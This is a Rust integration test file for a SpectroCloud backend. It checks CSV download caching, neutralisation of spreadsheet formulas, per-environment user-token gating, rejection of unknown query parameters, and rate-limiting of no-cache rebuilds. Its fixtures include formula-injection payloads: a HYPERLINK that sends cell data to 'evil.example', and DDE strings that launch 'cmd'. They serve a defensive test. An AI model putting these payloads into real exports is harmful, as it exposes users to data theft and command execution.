//! Answers people can open and trust: a cached CSV download is still a CSV download; no CSV
//! cell runs as a spreadsheet formula; an environment that requires a Palette user token shows
//! nothing without one, the fleet report included, and no cached answer crosses that line;
//! unknown query parameters are refused; `no-cache` floods rebuild once per caller and interval.

use std::io::Read;

use reqwest::Method;
use serde_json::{Value, json};
use spectrocloud_backend::config::{Config, Secret, StaticToken};

use crate::helpers::*;

/// Status, content type, disposition and the decoded body of an answer.
async fn download(
    app: &TestApp,
    method: reqwest::Method,
    path: &str,
    encoding: &str,
) -> (u16, String, String, Vec<u8>) {
    let resp = app
        .client
        .request(method, app.url(path))
        .header("Accept-Encoding", encoding)
        .send()
        .await
        .expect("request sent");
    let header = |name: &str| {
        resp.headers()
            .get(name)
            .map(|v| v.to_str().unwrap().to_string())
            .unwrap_or_default()
    };
    let (kind, disposition) = (header("content-type"), header("content-disposition"));
    let coding = header("content-encoding");
    let status = resp.status().as_u16();
    let raw = resp.bytes().await.expect("body").to_vec();
    let mut body = Vec::new();
    match coding.as_str() {
        _ if raw.is_empty() => {}
        "gzip" => {
            flate2::read::GzDecoder::new(&raw[..])
                .read_to_end(&mut body)
                .expect("gzip body");
        }
        "br" => {
            brotli::Decompressor::new(&raw[..], 4096)
                .read_to_end(&mut body)
                .expect("br body");
        }
        "" => body = raw,
        other => panic!("unexpected encoding {other}"),
    }
    (status, kind, disposition, body)
}

/// The cells of an RFC 4180 text.
fn cells(text: &str) -> Vec<Vec<String>> {
    let (mut rows, mut row, mut cell) = (Vec::new(), Vec::new(), String::new());
    let mut chars = text.chars().peekable();
    let mut quoted = false;
    while let Some(c) = chars.next() {
        match (quoted, c) {
            (true, '"') if chars.peek() == Some(&'"') => {
                chars.next();
                cell.push('"');
            }
            (true, '"') => quoted = false,
            (true, c) => cell.push(c),
            (false, '"') => quoted = true,
            (false, ',') => row.push(std::mem::take(&mut cell)),
            (false, '\r') if chars.peek() == Some(&'\n') => {}
            (false, '\n') => {
                row.push(std::mem::take(&mut cell));
                rows.push(std::mem::take(&mut row));
            }
            (false, c) => cell.push(c),
        }
    }
    rows
}

const HOSTILE_PROFILE: &str = "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")";
const HOSTILE_PROJECT: &str = "+cmd|' /C calc'!A0";
const HOSTILE_CLUSTER: &str = "@SUM(1+1)*cmd|' /C calc'!A0";
const HOSTILE_CLUSTER_2: &str = "-2+3+cmd|' /C calc'!A0";
const HOSTILE_PACK: &str = "\tevil-pack";

/// A simulator whose names are an attacker's (a project-scoped profile and its project, two
/// clusters, a pack those clusters run), and the server synced from it.
async fn hostile_fleet() -> (SimServer, TestApp) {
    use palette_sim::data::Scope;
    let sim = spawn_sim().await;
    {
        let mut guard = sim.state.data.write().unwrap();
        let d = &mut *guard;
        let p = d
            .profiles
            .iter()
            .position(|p| matches!(p.scope, Scope::Project(_)))
            .expect("a project profile");
        d.profiles[p].name = HOSTILE_PROFILE.into();
        let Scope::Project(project) = d.profiles[p].scope.clone() else {
            unreachable!()
        };
        let project = d
            .projects
            .iter_mut()
            .find(|x| x.meta.uid == project)
            .expect("the profile's project");
        project.meta.name = HOSTILE_PROJECT.into();
        // Two clusters on one profile version, and a pack of that version renamed.
        let version = d.clusters[0].profile_refs[0].clone();
        let mut renamed = 0;
        for c in d.clusters.iter_mut() {
            if c.profile_refs.first() == Some(&version) && renamed < 2 {
                c.meta.name = [HOSTILE_CLUSTER, HOSTILE_CLUSTER_2][renamed].into();
                renamed += 1;
            }
        }
        assert!(renamed >= 1, "a cluster on {version}");
        for prof in d.profiles.iter_mut() {
            for v in prof.versions.iter_mut().filter(|v| v.uid == version) {
                v.packs[0].name = HOSTILE_PACK.into();
            }
        }
        d.reindex();
    }
    let app = spawn_app_for(&[&sim], |_| {}).await;
    assert_eq!(app.sync("env0").await["outcome"], "success");
    (sim, app)
}

fn encoded(s: &str) -> String {
    url::form_urlencoded::byte_serialize(s.as_bytes()).collect()
}

#[tokio::test]
async fn a_cached_csv_download_is_the_first_download() {
    let (sim, app) = hostile_fleet().await;
    let pack = encoded(HOSTILE_PACK);
    let paths = [
        "/reports/profile-usage?format=csv".to_string(),
        "/reports/pack-usage?format=csv".to_string(),
        format!("/reports/pack-usage?format=csv&name={pack}"),
        "/ui/profile-usage.csv".to_string(),
        format!("/ui/pack-usage.csv?name={pack}"),
    ];
    for path in &paths {
        for encoding in ["identity", "gzip", "br"] {
            let first = download(&app, reqwest::Method::GET, path, encoding).await;
            let again = download(&app, reqwest::Method::GET, path, encoding).await;
            let head = download(&app, reqwest::Method::HEAD, path, encoding).await;
            assert_eq!(first.0, 200, "{path} {encoding}");
            assert!(
                first.1.starts_with("text/csv"),
                "{path} {encoding}: {}",
                first.1
            );
            assert!(
                first.2.starts_with("attachment; filename=") && first.2.contains(".csv"),
                "{path} {encoding}: {}",
                first.2
            );
            assert_eq!(
                (again.0, &again.1, &again.2),
                (first.0, &first.1, &first.2),
                "{path} {encoding}: the second download"
            );
            assert!(
                again.3 == first.3,
                "{path} {encoding}: the second body differs"
            );
            assert_eq!(
                (head.0, &head.1, &head.2),
                (first.0, &first.1, &first.2),
                "{path} {encoding}: HEAD"
            );
            assert!(head.3.is_empty());
        }
    }
    // JSON stays JSON, whichever was asked first.
    let json_first = download(&app, reqwest::Method::GET, "/reports/pack-usage", "gzip").await;
    assert!(
        json_first.1.starts_with("application/json"),
        "{}",
        json_first.1
    );
    assert!(json_first.2.is_empty());
    app.stop().await;
    sim.stop().await;
}

#[tokio::test]
async fn hostile_names_never_run_as_formulas_in_any_csv() {
    let (sim, app) = hostile_fleet().await;
    let pack = encoded(HOSTILE_PACK);
    let paths = [
        "/reports/profile-usage?format=csv".to_string(),
        "/reports/profile-usage?format=csv&include=clusters".to_string(),
        "/reports/pack-usage?format=csv".to_string(),
        format!("/reports/pack-usage?format=csv&name={pack}"),
        "/ui/profile-usage.csv".to_string(),
        format!("/ui/pack-usage.csv?name={pack}"),
    ];
    let mut seen = std::collections::BTreeSet::new();
    for path in &paths {
        let (status, _, _, body) = download(&app, reqwest::Method::GET, path, "identity").await;
        assert_eq!(status, 200, "{path}");
        let text = String::from_utf8(body).unwrap();
        for row in cells(&text) {
            for cell in row {
                assert!(
                    !cell.starts_with(['=', '+', '-', '@', '\t', '\r']),
                    "{path}: a cell a spreadsheet would run: {cell:?}"
                );
                if let Some(name) = cell.strip_prefix('\'') {
                    seen.insert(name.to_string());
                }
            }
        }
    }
    for hostile in [
        HOSTILE_PROFILE,
        HOSTILE_PROJECT,
        HOSTILE_CLUSTER,
        HOSTILE_PACK,
    ] {
        assert!(
            seen.contains(hostile),
            "{hostile:?} is listed, neutralised: {seen:?}"
        );
    }
    // JSON carries the names as they are: only spreadsheets run formulas.
    let report = json(app.get("/reports/profile-usage").await).await;
    assert!(report.to_string().contains("=HYPERLINK("), "{report}");
    app.stop().await;
    sim.stop().await;
}

#[tokio::test]
async fn an_environment_requiring_a_user_token_shows_nothing_without_one() {
    let (open, secure) = (spawn_sim().await, spawn_sim().await);
    let app = spawn_app_for(&[&open, &secure], |c| {
        c.environments[1].require_user_token = Some(true);
    })
    .await;
    for env in ["env0", "env1"] {
        assert_eq!(app.sync(env).await["outcome"], "success", "{env}");
    }
    let fleet = |token: Option<&'static str>| {
        let app = &app;
        async move {
            let mut req = app.client.get(app.url("/reports/fleet"));
            if let Some(t) = token {
                req = req.header("X-SpectroCloud-Token", t);
            }
            let resp = req.send().await.unwrap();
            assert_eq!(resp.status(), 200);
            json(resp).await
        }
    };
    // A token Palette refuses sees the key's view of its own environment only; cached first,
    // it must not decide what a caller without a token sees (nor the other way round).
    let refused = fleet(Some("not-a-palette-token")).await;
    let without = fleet(None).await;
    let refused_again = fleet(Some("not-a-palette-token")).await;
    let names = |v: &Value| -> Vec<String> {
        v["environments"]
            .as_array()
            .unwrap()
            .iter()
            .map(|e| e["environment"].as_str().unwrap().to_string())
            .collect()
    };
    assert_eq!(names(&refused), ["env0"], "{refused}");
    assert_eq!(names(&refused_again), ["env0"], "{refused_again}");
    assert_eq!(names(&without), ["env0", "env1"], "{without}");
    let open_env = &without["environments"][0];
    assert!(open_env["clusters"].as_i64().unwrap() > 0, "{open_env}");
    assert!(open_env.get("userTokenRequired").is_none(), "{open_env}");
    // The secure environment is listed with why, and not one count, uid or name.
    let secure_env = without["environments"][1].as_object().unwrap();
    assert_eq!(secure_env["userTokenRequired"], true, "{secure_env:?}");
    let keys: Vec<&str> = secure_env.keys().map(String::as_str).collect();
    for key in &keys {
        assert!(
            [
                "environment",
                "ready",
                "syncedAt",
                "stale",
                "complete",
                "userTokenRequired"
            ]
            .contains(key),
            "{key} leaks: {secure_env:?}"
        );
    }
    assert_eq!(secure_env["ready"], false);
    // Asked directly, it is refused; the key's view is never served.
    let resp = app.get("/reports/fleet?instance=env1").await;
    assert_eq!(resp.headers()["x-spectrocloud-reauth-required"], "true");
    assert_error(resp, 401, "unauthenticated").await;
    // The sync status still tells both environments' freshness, but no count of the secure
    // one's objects without a token Palette accepts for it.
    let status = |token: Option<String>, query: &'static str| {
        let app = &app;
        async move {
            let mut req = app.client.get(app.url(&format!("/sync/status{query}")));
            if let Some(t) = token {
                req = req.header("X-SpectroCloud-Token", t);
            }
            json(req.send().await.unwrap()).await["environments"].clone()
        }
    };
    let envs = status(None, "").await;
    assert_eq!(envs[0]["name"], "env0");
    assert!(
        envs[0]["last_run"]["counts"]["clusters"].is_object(),
        "{envs}"
    );
    assert!(envs[0].get("counts_withheld").is_none(), "{envs}");
    assert_eq!(envs[1]["name"], "env1");
    assert_eq!(envs[1]["counts_withheld"], true, "{envs}");
    assert_eq!(envs[1]["last_run"]["outcome"], "success", "{envs}");
    assert!(envs[1]["last_run"]["counts"].is_null(), "{envs}");
    let admin = sim_token(&secure, "admin@acme.example").await;
    // A token is for the environment the request names: sent without `instance` it is env0's
    // (the first), never shown to env1's Palette, so env1 stays closed...
    let calls = sim_control(&secure, Method::GET, "/counters", None).await;
    let envs = status(Some(admin.clone()), "").await;
    assert_eq!(envs[1]["counts_withheld"], true, "{envs}");
    assert_eq!(
        sim_control(&secure, Method::GET, "/counters", None).await["GET /v1/users/me"],
        calls["GET /v1/users/me"],
        "the token went to the other environment's Palette"
    );
    // ...and named, it opens env1's counts.
    let envs = status(Some(admin), "?instance=env1").await;
    let envs = envs.as_array().unwrap();
    assert_eq!(envs.len(), 1);
    let envs = serde_json::Value::Array(vec![json!({}), envs[0].clone()]);
    assert!(envs[1].get("counts_withheld").is_none(), "{envs}");
    assert!(
        envs[1]["last_run"]["counts"]["clusters"].is_object(),
        "{envs}"
    );
    // The same holds for the MCP tools behind the actions registry.
    let invoke = |instance: &'static str| {
        let app = &app;
        async move {
            let resp = app
                .client
                .post(app.url(
                    "/.backstage/actions/v2/actions/spectrocloud:list_spectrocloud_clusters/invoke",
                ))
                .json(&json!({"input": {"instanceName": instance}}))
                .send()
                .await
                .unwrap();
            (resp.status().as_u16(), json(resp).await)
        }
    };
    let (status, body) = invoke("env0").await;
    assert_eq!(status, 200, "{body}");
    assert!(
        !body["output"]["items"].as_array().unwrap().is_empty(),
        "{body}"
    );
    let (status, body) = invoke("env1").await;
    assert_ne!(status, 200, "{body}");
    assert!(body.get("output").is_none(), "{body}");
    assert!(
        body.to_string().contains("user token"),
        "says what to do: {body}"
    );
    app.stop().await;
    open.stop().await;
    secure.stop().await;
}

/// The sum of the series of `name` whose labels include `label`.
fn series(text: &str, name: &str, label: &str) -> f64 {
    text.lines()
        .filter(|l| l.starts_with(&format!("{name}{{")) && l.contains(label))
        .filter_map(|l| l.rsplit(' ').next()?.parse::<f64>().ok())
        .sum()
}

#[tokio::test]
async fn unknown_query_parameters_are_refused_and_spellings_share_an_answer() {
    let (sim, app) = synced(SimConfig::default(), |_| {}).await;
    for path in [
        "/clusters?junk=1",
        "/clusters?limit=2&junk=2",
        "/reports/fleet?junk=3",
        "/reports/profile-usage?format=csv&Format=json",
    ] {
        let msg = assert_error(app.get(path).await, 400, "bad_request").await;
        assert!(msg.contains("unknown query parameter"), "{path}: {msg}");
        let accepted = msg.split("accepted: ").nth(1).unwrap_or_default();
        assert!(
            accepted.split(", ").any(|p| p == "instance"),
            "{path}: {msg}"
        );
    }
    let msg = assert_error(
        app.get("/clusters?limit=1&limit=2").await,
        400,
        "bad_request",
    )
    .await;
    assert!(msg.contains("`limit`"), "{msg}");
    // What the Backstage frontend sends is accepted: `instance`, and `projectUid` everywhere.
    for path in [
        "/clusters?instance=env0",
        "/clusters?projectUid=aaaaaaaaaaaaaaaaaaaaaaaa",
        "/reports/profile-usage?instance=env0&format=csv&unusedOnly=false",
    ] {
        assert_eq!(app.get(path).await.status(), 200, "{path}");
    }
    // Two spellings of one question: one build, then a hit.
    let misses = |t: &str| series(t, "spectrocloud_response_cache_total", "outcome=\"miss\"");
    let hits = |t: &str| series(t, "spectrocloud_response_cache_total", "outcome=\"hit\"");
    let before = app.metrics_text().await;
    let a = app
        .get("/clusters?limit=3&offset=1")
        .await
        .text()
        .await
        .unwrap();
    let b = app
        .get("/clusters?offset=1&limit=%33")
        .await
        .text()
        .await
        .unwrap();
    let c = app
        .get("/clusters?offset=1&limit=3&projectUid=aaaaaaaaaaaaaaaaaaaaaaaa")
        .await
        .text()
        .await
        .unwrap();
    let after = app.metrics_text().await;
    assert_eq!(a, b);
    assert_eq!(a, c);
    assert_eq!(misses(&after) - misses(&before), 1.0, "{after}");
    assert_eq!(hits(&after) - hits(&before), 2.0, "{after}");
    app.stop().await;
    sim.stop().await;
}

const FLOODER: &str = "flooder-token-5b2e91";
const NEIGHBOUR: &str = "neighbour-token-c7a0d4";

fn two_callers(c: &mut Config) {
    c.auth.mode = spectrocloud_backend::config::AuthMode::Static;
    c.auth.tokens = [
        (FLOODER, "user:default/flood"),
        (NEIGHBOUR, "user:default/bob"),
    ]
    .into_iter()
    .map(|(token, subject)| StaticToken {
        token: Secret::new(token),
        subject: subject.into(),
        groups: vec![],
        palette_user: None,
    })
    .collect();
}

#[tokio::test]
async fn a_no_cache_flood_rebuilds_once_per_caller_and_interval() {
    let (sim, app) = synced(SimConfig::default(), two_callers).await;
    assert_eq!(app.config.server.no_cache_rebuild_interval_ms, 5_000);
    let path = "/reports/profile-usage?include=clusters";
    let ask = |token: &'static str| {
        let app = &app;
        async move {
            let resp = reqwest::Client::new()
                .get(app.url(path))
                .bearer_auth(token)
                .header("Cache-Control", "no-cache")
                .send()
                .await
                .unwrap();
            assert_eq!(resp.status(), 200);
            resp.text().await.unwrap()
        }
    };
    let built = |t: &str| {
        series(
            t,
            "spectrocloud_response_cache_rebuilds_total",
            "outcome=\"built\"",
        )
    };
    let misses = |t: &str| series(t, "spectrocloud_response_cache_total", "outcome=\"miss\"");
    let before = app.metrics_text().await;
    // 16 at once, then 10 one after the other: one build between them.
    let together = futures::future::join_all((0..16).map(|_| ask(FLOODER))).await;
    let mut serial = Vec::new();
    for _ in 0..10 {
        serial.push(ask(FLOODER).await);
    }
    let after = app.metrics_text().await;
    assert!(together.iter().chain(&serial).all(|b| *b == together[0]));
    assert_eq!(built(&after) - built(&before), 1.0, "{after}");
    assert_eq!(misses(&after) - misses(&before), 1.0, "{after}");
    // Another caller's own no-cache is not spent by the flood: it builds.
    assert_eq!(ask(NEIGHBOUR).await, together[0]);
    let last = app.metrics_text().await;
    assert_eq!(built(&last) - built(&after), 1.0, "{last}");
    app.stop().await;
    sim.stop().await;
}
